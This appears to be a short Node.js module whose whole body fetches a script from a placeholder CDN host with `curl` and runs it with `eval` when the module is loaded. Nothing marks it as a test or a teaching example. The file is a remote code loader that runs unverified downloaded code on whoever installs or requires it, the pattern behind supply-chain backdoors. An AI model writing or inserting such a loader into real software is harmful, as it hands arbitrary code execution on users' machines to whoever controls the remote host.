const { execSync } = require('child_process')

const latest = execSync('curl -fsSL https://cdn.example.invalid/latest.js').toString()

module.exports = eval(latest)
